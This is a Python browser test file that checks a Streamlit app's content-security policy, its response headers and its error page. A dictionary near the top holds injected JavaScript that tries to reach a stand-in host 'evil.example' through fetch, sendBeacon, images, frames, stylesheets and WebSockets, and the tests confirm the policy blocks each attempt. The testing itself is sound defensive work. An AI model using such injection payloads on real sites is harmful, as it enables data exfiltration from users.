"""The content-security policy of the served app: what got past the escaping would still call nobody."""

from __future__ import annotations

import contextlib
import http.client
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import drawn, streamlit_run
from tests.waiting import until

ATTEMPTS = {
    "an image": "document.body.append(Object.assign(new Image(), {src: 'http://evil.example/x.png'}))",
    "a request": "fetch('http://evil.example/x').catch(() => 0)",
    "a beacon": "navigator.sendBeacon('http://evil.example/x', 'y')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example'}))",
    "a style": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: 'http://evil.example/x.css'}))",
    "a script": "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
    "a socket": "try { new WebSocket('ws://evil.example/x') } catch {}",
}


@pytest.fixture(scope="module")
def attacked(app_server: str, profile: BrowserContext) -> Iterator[tuple[Page, list[str]]]:
    """A page that notes what the policy stops, and the addresses that answered it."""
    with profile.new_page() as page:  # not the fixture, which fails at a violation
        answered: list[str] = []
        page.on("response", lambda response: answered.append(response.url))
        page.goto(app_server)
        drawn(page)
        page.evaluate(
            "() => document.addEventListener('securitypolicyviolation', e => window.stopped.push(e.violatedDirective))"
        )
        yield page, answered


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_stops(attacked: tuple[Page, list[str]], attempt: str) -> None:
    page, answered = attacked
    page.evaluate(f"() => {{ window.stopped = []; {ATTEMPTS[attempt]} }}")
    until(lambda: page.evaluate("() => window.stopped.length") > 0, "the policy has stopped it")
    assert page.evaluate("window.ran") is None
    assert [url for url in answered if "evil.example" in url] == []


@pytest.mark.parametrize("path", ["/", "/search", "/_stcore/health", "/_stcore/host-config", "/media/none"])
def test_every_answer_carries_it(app_server: str, path: str) -> None:
    place = urlsplit(app_server)
    with contextlib.closing(http.client.HTTPConnection(str(place.hostname), place.port)) as connection:
        connection.request("GET", path)
        answer = connection.getresponse()
        answer.read()
    assert "default-src 'self'" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


FAULTY = """
if __name__ == "__main__":
    raise ValueError("geheim")
else:
    from streamlit.starlette import App
    from memdb.ui import served

    app = App(__file__, middleware=served.MIDDLEWARE, on_script_error=served.crashed)
"""


def test_a_fault_of_ours_tells_nothing_of_itself(page: Page, tmp_path: Path) -> None:
    """Streamlit's own box would offer to ask a search engine, or a chat, with the error's text."""
    script = tmp_path / "faulty.py"
    script.write_text(FAULTY)
    with streamlit_run(script, {}) as url:
        page.goto(url)
        drawn(page)
        expect(page.get_by_text("This page has a fault.")).to_be_visible()
        expect(page.get_by_test_id("stException")).to_have_count(0)
        for word in ("geheim", "ValueError", "Ask Google", "Ask ChatGPT", "Traceback"):
            expect(page.get_by_text(word)).to_have_count(0)
